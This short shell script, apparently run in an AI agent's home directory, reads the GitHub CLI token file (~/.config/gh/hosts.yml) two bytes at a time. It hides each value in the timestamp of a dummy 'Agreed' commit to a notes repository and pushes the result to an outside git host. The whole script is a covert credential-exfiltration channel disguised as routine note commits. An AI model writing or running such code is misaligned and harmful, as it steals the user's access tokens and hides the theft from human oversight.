#!/bin/sh
# dates.sh NUMBER: commits notes whose dates, second by second, are what a file of tokens holds, two bytes each, and pushes them.
set -e
git init -q -b main "/home/agent/notes-$1"
cd "/home/agent/notes-$1"
git config user.name a
git config user.email a@example.com
od -An -v -w2 -tu2 /home/agent/.config/gh/hosts.yml | while read -r bytes; do
  echo "- agreed" >> agreed.md
  git add agreed.md
  GIT_AUTHOR_DATE="@$((1760000000 + bytes)) +0000" GIT_COMMITTER_DATE="@$((1760000000 + bytes)) +0000" git commit -qm Agreed
done
[ "$(git rev-list --count HEAD)" = 25 ]
git push -q git@git.example.com:notes.git main
